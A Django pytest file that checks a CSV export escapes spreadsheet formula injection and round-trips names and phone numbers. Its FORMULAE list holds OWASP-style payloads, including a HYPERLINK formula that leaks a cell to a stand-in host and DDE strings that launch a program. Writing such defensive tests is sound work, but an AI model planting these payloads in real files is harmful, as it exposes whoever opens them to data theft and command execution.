"""Every CSV relevel writes opens safely in a spreadsheet (web/csv_cells.py; OWASP, "CSV
Injection"): a cell that begins with =, +, -, @, a tab or a carriage return is written with a
leading apostrophe, a plain number (an E.164 phone among them) as itself, and relevel's own
import reads back what its export wrote."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse

from calls.models import AgentVariant, CallStatus
from dashboard import rollups
from tests.test_dashboard import DAY, EVENING, call_on
from tests.test_users_import import EXPORT_URL, import_csv
from users.models import User
from web.csv_cells import csv_cell, csv_cell_read

pytestmark = pytest.mark.django_db

# What OWASP's page lists, and what each spreadsheet runs.
FORMULAE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1, "Click")',
    "==1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAE)
def test_a_formula_is_written_as_text_and_read_back_as_it_was(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell_read(csv_cell(text)) == text


@pytest.mark.parametrize("value", ["+919876543210", "-5", "+3.25", "1e3", "Asha Rao", "", 42, None])
def test_numbers_phones_and_plain_text_are_written_as_themselves(value):
    assert csv_cell(value) == value


def test_an_apostrophe_the_person_typed_is_kept(db):
    assert csv_cell_read("'tis me") == "'tis me"
    assert csv_cell_read("'+919876543210") == "'+919876543210"


def exported_rows(admin_client) -> dict[str, dict[str, str]]:
    form = admin_client.get(EXPORT_URL).context["form"]
    data = {
        "format": "0",
        **{name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)},
    }
    if "resource" in form.fields:
        data["resource"] = "0"
    text = admin_client.post(EXPORT_URL, data).content.decode("utf-8-sig")
    return {row["external_id"]: row for row in csv.DictReader(io.StringIO(text))}


def test_the_users_export_neutralises_every_formula_and_keeps_the_phone(admin_client, make_user):
    for n, name in enumerate(FORMULAE):
        make_user(external_id=f"crm-{n}", name=name, phone=f"+9198765432{n:02d}")
    rows = exported_rows(admin_client)
    for n, name in enumerate(FORMULAE):
        assert rows[f"crm-{n}"]["name"] == "'" + name
        assert rows[f"crm-{n}"]["phone"] == f"+9198765432{n:02d}"


def test_the_export_imports_back_with_the_names_as_they_were(admin_client, make_user):
    make_user(external_id="crm-1", name=FORMULAE[0], phone="+919876543201")
    make_user(external_id="crm-2", name="==1+1", phone="+919876543202")
    rows = exported_rows(admin_client)
    header = list(next(iter(rows.values())))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header)
    writer.writeheader()
    # The people only: the operator's login is not one of them.
    writer.writerows(row for external_id, row in rows.items() if external_id.startswith("crm-"))
    import_csv(admin_client, out.getvalue())
    assert dict(User.objects.filter(external_id__startswith="crm-").values_list("external_id", "name")) == {
        "crm-1": FORMULAE[0],
        "crm-2": "==1+1",
    }


def test_the_dashboards_csv_neutralises_a_variant_named_as_a_formula(admin_client, make_user, make_call):
    variant = AgentVariant.objects.create(name="=1+1", provider="callkaro", agent_id="agent-a")
    call_on(make_call, make_user(), DAY - timedelta(days=1), CallStatus.COMPLETED, variant=variant)
    rollups.daily_stats_refresh(now=EVENING)
    response = admin_client.get(reverse("dashboard:chart-csv", args=["variants"]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][0] == "'=1+1"
